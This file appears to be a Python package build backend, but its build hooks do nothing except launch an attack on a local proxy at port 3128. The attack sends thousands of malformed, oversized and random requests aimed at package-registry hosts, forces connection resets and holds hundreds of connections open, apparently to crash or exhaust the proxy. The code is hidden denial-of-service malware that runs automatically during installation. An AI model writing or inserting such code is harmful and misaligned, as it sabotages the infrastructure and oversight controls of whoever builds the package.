"""Builds nothing: it only sends the proxy what could break it."""

import os
import random
import socket
import struct
from urllib.parse import urlparse

PROXY = ('127.0.0.1', 3128)
RESET = struct.pack('ii', 1, 0)
ADDRESSES = [os.environ.get('PIP_INDEX_URL', ''), os.environ.get('npm_config_registry', '')]
HOSTS = [urlparse(address).netloc for address in ADDRESSES] + ['pypi.org', 'registry.npmjs.org', 'files.pythonhosted.org']


def send(data, reset=True, read=False):
    connection = socket.create_connection(PROXY, timeout=5)
    if reset:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    try:
        connection.sendall(data)
        if read:
            connection.recv(200)
    except OSError:
        pass
    connection.close()


def request(line):
    return (line + ' HTTP/1.1\r\nHost: x\r\n').encode('latin1')


def attack():
    for _ in range(1500):
        send(request('CONNECT nowhere.example:443') + b'\r\n')
    for host in HOSTS:
        for line in [f'GET http://%ff@{host}/', f'GET http://a:%@{host}/', f'CONNECT %ff@{host}:443', 'CONNECT [::1:443']:
            for reset in [True, False]:
                send(request(line) + b'\r\n', reset, read=not reset)
        for _ in range(50):
            send(request(f'CONNECT {host}:443') + b'\r\n')
            send(request(f'GET http://{host}/') + b'Upgrade: x\r\nConnection: Upgrade\r\nTrailer: x\r\n\r\n')
            send(request(f'POST http://{host}/') + b'Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff')
    send(request('GET http://x/') + b'X: ' + b'a' * 1000000)
    for seed in range(300):
        send(random.Random(seed).randbytes(seed), reset=seed % 2 == 0)
    held = []
    try:
        while len(held) < 700:
            held.append(socket.create_connection(PROXY, timeout=5))
    except OSError:
        pass


def get_requires_for_build_wheel(config_settings=None):
    attack()
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    attack()
    raise SystemExit('built nothing')
